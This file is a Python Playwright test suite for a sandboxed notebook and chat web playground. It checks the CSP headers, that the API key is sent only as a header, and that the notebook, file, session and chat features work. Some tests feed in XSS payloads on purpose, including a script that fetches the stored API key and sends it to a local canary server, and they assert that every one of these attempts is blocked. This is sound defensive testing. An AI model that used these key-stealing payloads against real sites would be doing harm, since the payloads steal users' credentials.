"""The browser playground (``/ui/``), in a real browser: Debian's ``chromium`` driven by Playwright against a real
server on a loopback port, with real sandboxes and, for the chat, the shipped scripted model
(``sandlot.testing.upstream``).

Without chromium or Playwright the browser tests skip and say why (in CI, where ``.ci/run`` installs both, they
fail instead). Screenshots of each pane are saved to ``artifacts/ui/`` (or ``$SANDLOT_UI_ARTIFACTS``).

Every page is watched: a CSP or Trusted Types violation of the page itself, or an uncaught error, fails the test
that caused it; so does an API call without the key in its ``Authorization`` header, or the key in any URL.
"""

from __future__ import annotations

import http.server
import importlib.util
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from importlib import resources
from typing import TYPE_CHECKING, Any

import httpx
import nbformat
import pytest
from conftest import API_KEY, running_server
from starlette.testclient import TestClient

from sandlot import EngineConfig
from sandlot.agent.config import AgentSettings, UpstreamModel
from sandlot.server import ServerConfig, create_app
from sandlot.testing.upstream import Reply, ScriptedUpstream

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Download, Locator, Page

REPO = pathlib.Path(__file__).resolve().parent.parent
UI_DIR = REPO / "src" / "sandlot" / "ui"
ARTIFACTS = pathlib.Path(os.environ.get("SANDLOT_UI_ARTIFACTS", REPO / "artifacts" / "ui"))
# Debian's package by default; SANDLOT_CHROMIUM names another build of Chromium or Chrome.
CHROMIUM = os.environ.get("SANDLOT_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"]
WAIT_MS = 20_000
ANSWER = "It is **42**."
# What a hostile model could put in its answer; the Markdown is rendered, the rest must be inert.
HOSTILE_MARKDOWN = ("<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>"
                    "[click](javascript:document.title='pwned')")


# ---- fixtures: one server, one browser, a fresh page per test ----------------------------------------------------

def model(body: dict[str, Any]) -> Reply:
    """The scripted model: run code for a question, answer once the tool result is back."""
    if body["messages"][-1]["role"] == "tool":
        return Reply(f"{ANSWER} {HOSTILE_MARKDOWN}")
    if "sleep" in body["messages"][-1]["content"]:
        return Reply(tool_code="import time\ntime.sleep(60)")
    return Reply(tool_code="answer = 6 * 7\nprint(answer)")


@dataclass
class Server:
    """The server under test, its scripted model, and an API client with the key."""

    url: str
    upstream: ScriptedUpstream
    api: httpx.Client


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with ScriptedUpstream([model] * 20) as upstream:
        config = ServerConfig(api_keys=(API_KEY,), engine=EngineConfig(pool_size=2),
                              models=(UpstreamModel(name="scripted", base_url=upstream.base_url, action_format="tool_calls"),),
                              agent=AgentSettings(max_steps=3, max_wall_time=30))
        with running_server(config) as url, \
                httpx.Client(base_url=url, headers={"Authorization": f"Bearer {API_KEY}"}, timeout=30) as api:
            yield Server(url, upstream, api)


def _browser_missing() -> str | None:
    if importlib.util.find_spec("playwright") is None:
        return "Playwright is not installed (pip install -e '.[test]')"
    if not os.path.exists(CHROMIUM):
        return f"no chromium at {CHROMIUM} (apt-get install chromium, or set SANDLOT_CHROMIUM)"
    return None


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """One headless chromium for the whole run, closed at the end."""
    missing = _browser_missing()
    if missing:
        if os.environ.get("CI"):
            pytest.fail(f"the browser tests must run in CI: {missing}")
        pytest.skip(missing)
    from playwright.sync_api import expect, sync_playwright

    expect.set_options(timeout=WAIT_MS)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        try:
            yield chromium
        finally:
            chromium.close()


@dataclass
class Watch:
    """What a page did that no test should allow."""

    violations: list[str] = field(default_factory=list)
    api_calls: list[tuple[str, str, str | None]] = field(default_factory=list)
    expected: list[str] = field(default_factory=list)
    """Violations that mention one of these are the policy blocking what a test's hostile output tried."""


@pytest.fixture
def watch() -> Watch:
    return Watch()


@pytest.fixture
def page(browser: Browser, server: Server, watch: Watch) -> Iterator[Page]:
    """A fresh browser context (its own session storage) on the playground, not yet given the key."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    context.set_default_timeout(WAIT_MS)
    tab = context.new_page()

    def on_console(message: Any) -> None:
        # The sandboxed frames of HTML outputs report what the inherited CSP blocked there (pandas' inline
        # styles, the hostile test's image): that is the policy working, not the page breaking it.
        from_page = not message.location.get("url", "").startswith("about:srcdoc")
        if message.type == "error" and from_page and re.search(r"Content Security Policy|Trusted Type", message.text) \
                and not any(expected in message.text for expected in watch.expected):
            watch.violations.append(message.text)

    def on_request(request: Any) -> None:
        if "/v1/" in request.url:
            watch.api_calls.append((request.method, request.url, request.headers.get("authorization")))

    tab.on("console", on_console)
    tab.on("pageerror", lambda error: watch.violations.append(f"uncaught: {error}"))
    context.on("request", on_request)
    tab.goto(server.url + "/")
    yield tab
    context.close()
    assert watch.violations == []
    # Before the test entered the key the page sent no Authorization header; from then on, every call sent it.
    calls = [call for call in watch.api_calls if call[2] != "Bearer not-the-key"]  # the key test's wrong key
    first_keyed = next((i for i, (_, _, authorization) in enumerate(calls) if authorization), len(calls))
    assert all(authorization is None for _, _, authorization in calls[:first_keyed]), calls
    assert all(authorization == f"Bearer {API_KEY}" for _, _, authorization in calls[first_keyed:]), calls
    assert not [url for _, url, _ in watch.api_calls if API_KEY in url or "not-the-key" in url]


def enter_key(page: Page, key: str = API_KEY) -> None:
    page.get_by_label("API key").fill(key)
    page.get_by_role("button", name="Use key").click()
    wait_loaded(page)


def wait_loaded(page: Page) -> None:
    page.locator("#layout:not([aria-busy])").wait_for()


def output(page: Page) -> Locator:
    return page.get_by_role("region", name="Output")


def run_cell(page: Page, code: str, *, with_keys: bool = True) -> Locator:
    """Type a cell into the editor and run it (Shift+Enter, or the Run button); the cell's article."""
    before = output(page).get_by_role("article").count()
    page.get_by_label("Code").click()
    page.keyboard.insert_text(code)  # as a paste: no auto-indent or bracket closing on top of the code's own
    if with_keys:
        page.keyboard.press("Shift+Enter")
    else:
        page.get_by_role("button", name="Run", exact=True).click()
    cell = output(page).get_by_role("article").nth(before)
    cell.wait_for()
    return cell


def finished(cell: Locator, status: str = "ok") -> Locator:
    from playwright.sync_api import expect

    expect(cell).not_to_have_attribute("aria-busy", "true")
    expect(cell).to_have_attribute("data-status", status)
    return cell


def session_button(page: Page, session_id: str) -> Locator:
    """The sessions list's button that switches to ``session_id``."""
    return page.get_by_role("navigation", name="Sessions").get_by_role("button", name=re.compile(f"^{session_id}"))


def current_session(page: Page) -> str:
    return page.locator("[data-current-session]").first.inner_text()


def new_session(page: Page) -> str:
    """Press "New session"; the new session's id, once it is the current one."""
    from playwright.sync_api import expect

    before = current_session(page)
    page.get_by_role("button", name="New session").click()
    expect(page.locator("[data-current-session]").first).not_to_have_text(before)
    return current_session(page)


def screenshot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def download_bytes(download: Download) -> bytes:
    return pathlib.Path(download.path()).read_bytes()


# ---- serving: no browser needed ----------------------------------------------------------------------------------

def test_page_is_served_without_a_key_with_a_strict_policy(server: Server) -> None:
    with httpx.Client(base_url=server.url) as anonymous:
        root = anonymous.get("/")
        assert root.status_code == 307 and root.headers["location"] == "ui/"
        assert anonymous.get("/ui").headers["location"] == "ui/"
        page = anonymous.get("/ui/")
        again = anonymous.get("/ui/")
        assert anonymous.get("/v1/sessions").status_code == 401  # the page is open; the API is not
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert page.headers["cache-control"] == "no-cache"
    csp = dict(part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";"))
    assert csp["default-src"] == "'none'" and csp["script-src"] == "'self'" and csp["connect-src"] == "'self'"
    assert csp["img-src"] == "'self' data:" and csp["frame-ancestors"] == "'none'" and csp["object-src"] == "'none'"
    assert csp["require-trusted-types-for"] == "'script'"
    assert "unsafe" not in page.headers["content-security-policy"]
    nonce = re.fullmatch(r"'self' 'nonce-([\w-]+)'", csp["style-src"])
    assert nonce and nonce.group(1) not in again.headers["content-security-policy"]  # a fresh nonce per response
    assert page.headers["x-content-type-options"] == "nosniff"
    assert "<script>" not in page.text and 'type="module"' in page.text  # no inline script for the policy to allow


def test_assets_are_versioned_and_cached_for_good(server: Server) -> None:
    with httpx.Client(base_url=server.url) as anonymous:
        page = anonymous.get("/ui/").text
        digest = re.search(r'src="assets/([0-9a-f]{16})/app\.js"', page)
        assert digest
        prefix = f"/ui/assets/{digest.group(1)}"
        app = anonymous.get(f"{prefix}/app.js")
        assert app.status_code == 200 and app.headers["content-type"].startswith("text/javascript")
        assert app.headers["cache-control"] == "public, max-age=31536000, immutable"
        assert anonymous.get(f"{prefix}/vendor/codemirror.js").status_code == 200
        assert anonymous.get(f"{prefix}/style.css").headers["content-type"].startswith("text/css")
        assert anonymous.get("/ui/assets/0123456789abcdef/app.js").status_code == 404  # another version's name
        assert anonymous.get(f"{prefix}/__init__.py").status_code == 404  # only the page's kinds of files
        assert anonymous.get(f"{prefix}/%2e%2e/%2e%2e/routes_ui.py").status_code == 404
        assert anonymous.get(f"{prefix}/index.html").status_code == 404  # the page has one address, with its CSP


def test_the_playground_can_be_switched_off() -> None:
    # The static routes need no engine, so the apps' lifespans (and sandboxes) are not started here.
    assert TestClient(create_app(ServerConfig(ui=True))).get("/ui/").status_code == 200
    off = TestClient(create_app(ServerConfig(ui=False)))
    assert off.get("/ui/").status_code == 404 and off.get("/", follow_redirects=False).status_code == 404


def test_every_asset_ships_in_the_package(tmp_path: pathlib.Path) -> None:
    """What `pip install .` installs (setuptools' build_py with pyproject's package-data) holds every file of ui/."""
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(REPO / name, tmp_path / name)
    shutil.copytree(REPO / "src", tmp_path / "src", ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
    built = subprocess.run([sys.executable, "-c", "from setuptools import setup; setup()", "-q", "build_py", "-d", "out"],
                           cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert built.returncode == 0, built.stderr
    expected = {p.relative_to(UI_DIR).as_posix() for p in UI_DIR.rglob("*") if p.is_file() and "__pycache__" not in p.parts}
    shipped = {p.relative_to(tmp_path / "out" / "sandlot" / "ui").as_posix()
               for p in (tmp_path / "out" / "sandlot" / "ui").rglob("*") if p.is_file()}
    assert expected - shipped == set()
    assert resources.files("sandlot.ui").joinpath("index.html").is_file()


def test_vendored_libraries_are_the_locked_versions_with_their_licences() -> None:
    lock = json.loads((REPO / "scripts" / "ui-vendor" / "package-lock.json").read_text())["packages"]
    record = json.loads((UI_DIR / "vendor" / "VERSIONS.json").read_text())
    licences = (UI_DIR / "vendor" / "THIRD_PARTY_LICENSES.txt").read_text()
    assert {"@codemirror/view", "@codemirror/lang-python", "marked", "dompurify"} <= set(record["packages"])
    for name, info in record["packages"].items():
        assert info["version"] == lock[f"node_modules/{name}"]["version"], name
        assert (UI_DIR / "vendor" / info["file"]).is_file()
        assert f"==== {name} {info['version']} " in licences
    assert record["built_with"] == f"esbuild {lock['node_modules/esbuild']['version']}"


# ---- in the browser ----------------------------------------------------------------------------------------------

def test_the_key_is_asked_for_kept_in_session_storage_and_sent_only_as_a_header(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    wait_loaded(page)
    expect(page.get_by_role("status")).to_contain_text("needs an API key")
    health = server.api.get("/healthz").json()
    expect(page.locator("#health")).to_have_text("ok")
    expect(page.locator("#isolation")).to_have_text(health["isolation"])
    expect(page.get_by_text("Environments")).to_be_hidden()  # this server has no GET /v1/environments
    enter_key(page, "not-the-key")
    expect(page.get_by_role("status")).to_contain_text("did not accept that API key")
    expect(page.get_by_label("API key")).to_be_focused()
    enter_key(page)
    expect(page.get_by_role("status")).not_to_contain_text("API key")
    assert page.evaluate("sessionStorage.getItem('sandlot.apiKey')") == API_KEY
    assert page.evaluate("localStorage.length") == 0 and page.context.cookies() == []
    assert page.get_by_label("API key").input_value() == ""  # the field never shows the key back
    assert API_KEY not in page.url and API_KEY not in page.content()
    # Keyboard: the tabs follow the arrow keys.
    page.get_by_role("tab", name="Notebook").focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("tab", name="Chat")).to_have_attribute("aria-selected", "true")
    expect(page.get_by_label("Message")).to_be_visible()
    page.keyboard.press("End")
    expect(page.get_by_role("group", name="Upload files")).to_be_visible()


def test_cells_print_plot_and_raise(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    printed = finished(run_cell(page, "print('hello from the sandbox')\n6 * 7"))
    expect(printed).to_contain_text("In [1]:")
    expect(printed.locator("pre.stdout")).to_have_text("hello from the sandbox")
    expect(printed).to_contain_text("Out[1]:")
    expect(printed.locator(".result")).to_contain_text("42")

    plotted = finished(run_cell(page, "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.title('a plot')",
                                with_keys=False))
    figure = plotted.locator("img")
    expect(figure).to_have_attribute("src", re.compile(r"^data:image/png;base64,[A-Za-z0-9+/]+=*$"))
    assert figure.evaluate("img => img.complete && img.naturalWidth") > 100  # it decodes as an image

    raised = finished(run_cell(page, "def divide(a, b):\n    return a / b\n\ndivide(1, 0)"), "error")
    error = raised.get_by_role("group", name="Error: ZeroDivisionError")
    expect(error).to_contain_text("division by zero")
    expect(error.locator("pre.traceback")).to_contain_text("Traceback (most recent call last)")
    expect(error.locator("pre.traceback")).to_contain_text("return a / b")
    expect(raised).to_contain_text("In [3]:")
    expect(session_button(page, current_session(page))).to_contain_text("3 cells")
    screenshot(page, "notebook")


def test_the_notebook_works_from_the_keyboard(page: Page) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    page.get_by_label("Code").focus()
    page.keyboard.type("for i in range(3):\nprint(i)")  # typed: the editor indents the loop's body itself
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")  # Escape, then Tab, leaves the editor (Tab alone indents)
    expect(page.get_by_role("button", name="Run", exact=True)).to_be_focused()
    page.keyboard.press("Enter")
    cell = finished(output(page).get_by_role("article").last)
    expect(cell.locator("pre.code")).to_have_text("for i in range(3):\n    print(i)")
    expect(cell.locator("pre.stdout")).to_have_text("0\n1\n2")
    page.keyboard.press("Shift+Tab")  # back into the editor, where Shift+Enter runs
    expect(page.get_by_label("Code")).to_be_focused()
    page.keyboard.type("print('again')")
    page.keyboard.press("Shift+Enter")
    expect(finished(output(page).get_by_role("article").nth(1)).locator("pre.stdout")).to_have_text("again")


def test_interrupt_stops_a_sleeping_cell_and_the_session_lives_on(page: Page) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    finished(run_cell(page, "kept = 'still here'"))
    sleeping = run_cell(page, "import time\nprint('sleeping', flush=True)\ntime.sleep(60)")
    expect(sleeping.locator("pre.stdout")).to_have_text("sleeping")  # running in the sandbox now
    interrupt = page.get_by_role("button", name="Interrupt")
    expect(interrupt).to_be_enabled()
    interrupt.click()
    finished(sleeping, "error")  # within the wait, far less than the 60 s it would sleep
    expect(sleeping.get_by_role("group", name="Error: KeyboardInterrupt")).to_be_visible()
    expect(interrupt).to_be_disabled()
    after = finished(run_cell(page, "print(kept)"))
    expect(after.locator("pre.stdout")).to_have_text("still here")


def test_files_upload_by_drop_download_and_delete(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    finished(run_cell(page, "open('made-here.csv', 'w').write('a,b\\n1,2\\n')"))
    session = current_session(page)
    page.get_by_role("tab", name="Files").click()
    expect(page.get_by_role("row", name=re.compile("made-here.csv"))).to_be_visible()

    # Drag and drop, as a person drops a file from the desktop.
    data_transfer = page.evaluate_handle(
        "() => { const dt = new DataTransfer();"
        " dt.items.add(new File(['hello, workspace\\n'], 'notes.txt', {type: 'text/plain'})); return dt; }")
    page.get_by_role("group", name="Upload files").dispatch_event("drop", {"dataTransfer": data_transfer})
    expect(page.get_by_role("row", name=re.compile("notes.txt"))).to_be_visible()
    # And the file picker, with bytes that are not text.
    page.get_by_label("Files to upload").set_input_files(
        files=[{"name": "blob.bin", "mimeType": "application/octet-stream", "buffer": bytes(range(256))}])
    expect(page.get_by_role("row", name=re.compile("blob.bin"))).to_be_visible()
    listed = {f["path"]: f["size"] for f in server.api.get(f"/v1/sessions/{session}/files").json()["files"]}
    assert listed == {"made-here.csv": 8, "notes.txt": 17, "blob.bin": 256}
    screenshot(page, "files")

    with page.expect_download() as got:
        page.get_by_role("button", name="Download blob.bin").click()
    assert got.value.suggested_filename == "blob.bin" and download_bytes(got.value) == bytes(range(256))
    with page.expect_download() as got:
        page.get_by_role("button", name="Download made-here.csv").click()
    assert download_bytes(got.value) == b"a,b\n1,2\n"

    page.get_by_role("button", name="Delete notes.txt").click()
    expect(page.get_by_role("row", name=re.compile("notes.txt"))).to_have_count(0)
    assert "notes.txt" not in {f["path"] for f in server.api.get(f"/v1/sessions/{session}/files").json()["files"]}
    page.get_by_role("tab", name="Notebook").click()
    read = finished(run_cell(page, "print(open('blob.bin', 'rb').read()[250:], __import__('os').path.exists('notes.txt'))"))
    expect(read.locator("pre.stdout")).to_have_text("b'\\xfa\\xfb\\xfc\\xfd\\xfe\\xff' False")


def test_export_downloads_the_session_as_a_valid_notebook(page: Page) -> None:
    enter_key(page)
    finished(run_cell(page, "x = 41"))
    finished(run_cell(page, "print('exported')\nx + 1"))
    with page.expect_download() as got:
        page.get_by_role("button", name="Export .ipynb").click()
    assert got.value.suggested_filename == f"{current_session(page)}.ipynb"
    notebook = nbformat.reads(download_bytes(got.value).decode(), as_version=4)
    nbformat.validate(notebook)
    assert [cell.source for cell in notebook.cells] == ["x = 41", "print('exported')\nx + 1"]
    outputs = notebook.cells[1].outputs
    assert outputs[0].text == "exported\n" and outputs[1].data["text/plain"] == "42"


def test_a_chat_turn_streams_the_step_and_a_sanitised_answer(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    page.get_by_role("tab", name="Chat").click()
    expect(page.get_by_label("Model")).to_have_value("scripted")
    page.get_by_label("Message").fill("What is six times seven?")
    page.get_by_role("button", name="Send").click()
    conversation = page.get_by_role("region", name="Conversation")
    step = conversation.locator("details.step")
    expect(step).to_have_count(1)
    expect(step.locator("summary")).to_contain_text("Step 1: ok")
    expect(step.locator("pre.stdout")).to_be_hidden()  # collapsed until opened
    step.locator("summary").click()
    expect(step.locator("pre.code")).to_have_text("answer = 6 * 7\nprint(answer)")
    expect(step.locator("pre.stdout")).to_have_text("42")
    answer = conversation.locator(".answer")
    expect(answer.locator("strong")).to_have_text("42")  # Markdown, rendered
    expect(conversation).to_contain_text("Stop reason: answer")
    # The hostile part of the answer is inert: raw HTML shows as text, and no handler, script or javascript: link.
    expect(answer).to_contain_text("<img src=x onerror=")
    assert answer.locator("[onerror], script, img").count() == 0
    assert answer.locator("a").get_attribute("href") is None
    assert page.title() == "sandlot playground"
    # The model saw the step's output; the step ran in the page's session, whose notebook now shows it.
    assert server.upstream.requests[-1]["messages"][-1]["role"] == "tool"
    assert "42" in server.upstream.requests[-1]["messages"][-1]["content"]
    screenshot(page, "chat")
    page.get_by_role("tab", name="Notebook").click()
    expect(output(page).get_by_role("article")).to_have_count(1)
    expect(output(page)).to_contain_text("answer = 6 * 7")


def test_stop_ends_a_chat_turn_and_its_code(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    session = new_session(page)
    page.get_by_role("tab", name="Chat").click()
    page.get_by_label("Message").fill("Please sleep for a minute.")
    page.keyboard.press("Enter")  # Enter sends
    stop = page.get_by_role("button", name="Stop")
    expect(stop).to_be_enabled()
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    page.wait_for_timeout(1000)  # the step is sleeping in the session now
    stop.click()
    expect(page.get_by_role("region", name="Conversation")).to_contain_text("Stopped: you stopped it")
    expect(stop).to_be_disabled()
    # The server stopped the loop and its code: the session takes the next cell at once, not after the minute's
    # sleep. (Not its status: the first cell after a stopped agent step currently comes back "killed", a server-side
    # matter reported apart from the playground.)
    started = time.monotonic()
    server.api.post(f"/v1/sessions/{session}/execute", json={"code": "print('free')", "timeout": 10})
    assert time.monotonic() - started < 10


class Canary:
    """A loopback HTTP server that records every request: where hostile output would send what it stole."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Canary:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


def hostile_html(canary: str) -> str:
    steal = (f"fetch('{canary}/fetch?k=' + parent.sessionStorage.getItem('sandlot.apiKey'));"
             f"parent.document.title = 'pwned'; document.body.dataset.ran = 'yes';")
    return (f"<p>hostile output</p><table><tr><td>cell</td></tr></table>"
            f"<script>{steal}</script>"
            f"<img src=x onerror=\"{steal}\">"
            f"<img src=\"{canary}/img\">"
            f"<link rel=stylesheet href=\"{canary}/css\">"
            f"<meta http-equiv=refresh content=\"0;url={canary}/refresh\">"
            f"<iframe src=\"{canary}/frame\"></iframe>")


def test_hostile_html_output_runs_no_script_and_cannot_reach_the_key(page: Page, watch: Watch) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    with Canary() as canary:
        watch.expected.append(canary.url)  # the frame's attempts to reach it are reported as blocked, as they must be
        code = (f"class Evil:\n    def _repr_html_(self):\n        return {hostile_html(canary.url)!r}\n\n"
                f"display(Evil())\nprint('shown')")
        cell = finished(run_cell(page, code))
        frame_element = cell.locator("iframe.html-output")
        expect(frame_element).to_have_attribute("sandbox", "")
        frame = frame_element.content_frame
        expect(frame.get_by_text("hostile output")).to_be_visible()  # rendered, not dropped
        page.wait_for_timeout(1500)  # time for the refresh, the images, the stylesheet and the frame to try
        assert canary.hits == []
        assert frame.locator("body").get_attribute("data-ran") is None
        assert page.title() == "sandlot playground"
        assert page.evaluate("sessionStorage.getItem('sandlot.apiKey')") == API_KEY
        assert API_KEY not in (frame_element.get_attribute("srcdoc") or "")
        screenshot(page, "hostile-html")


def test_restart_gives_a_fresh_interpreter_with_the_same_files(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    finished(run_cell(page, "secret = 1\nopen('keep.txt', 'w').write('kept')"))
    old = current_session(page)
    page.get_by_role("button", name="Restart").click()
    expect(page.get_by_role("status")).to_contain_text("Restarted")
    new = current_session(page)
    assert new != old and new.startswith("ses_")
    assert server.api.get(f"/v1/sessions/{old}").status_code == 404
    expect(output(page).get_by_role("article")).to_have_count(0)
    fresh = finished(run_cell(page, "print('secret' in globals(), open('keep.txt').read())"))
    expect(fresh.locator("pre.stdout")).to_have_text("False kept")
    expect(fresh).to_contain_text("In [1]:")


def test_sessions_are_created_switched_and_deleted(page: Page, server: Server) -> None:
    from playwright.sync_api import expect

    enter_key(page)
    first = new_session(page)
    finished(run_cell(page, "print('in the first')"))
    second = new_session(page)
    assert first != second
    expect(output(page).get_by_role("article")).to_have_count(0)
    session_button(page, first).click()
    expect(session_button(page, first)).to_have_attribute("aria-current", "true")
    history = output(page).get_by_role("article")  # the history, read back from the session's notebook
    expect(history).to_have_count(1)
    expect(history.locator("pre.stdout")).to_have_text("in the first")
    screenshot(page, "sessions")
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name=f"Delete {second}").click()
    expect(page.get_by_role("button", name=f"Delete {second}")).to_have_count(0)
    assert server.api.get(f"/v1/sessions/{second}").status_code == 404
    assert current_session(page) == first


def test_session_state_and_environments_show_when_the_server_sends_them(page: Page) -> None:
    """Durable sessions' ``state`` and ``GET /v1/environments`` come with later features; until this server has them,
    their answers are rewritten on the way to the page (a fake at the network seam) to check the page shows them."""
    from playwright.sync_api import Route, expect

    def paused(route: Route) -> None:
        if route.request.method != "GET":
            route.continue_()
            return
        response = route.fetch()
        body = response.json()
        for session in body["sessions"]:
            session["state"] = "paused"
        route.fulfill(response=response, json=body)

    environments = {"environments": [{"name": "default", "python": "3.11", "preload": ["numpy"], "default": True},
                                     {"name": "ml", "python": "3.11", "preload": ["torch"], "default": False}]}
    page.route(re.compile(r"/v1/sessions$"), paused)
    page.route(re.compile(r"/v1/environments$"), lambda route: route.fulfill(json=environments))
    enter_key(page)
    expect(session_button(page, new_session(page))).to_contain_text("paused")
    expect(page.locator("#environments")).to_have_text("default (default)ml")
    expect(page.get_by_text("Environments")).to_be_visible()
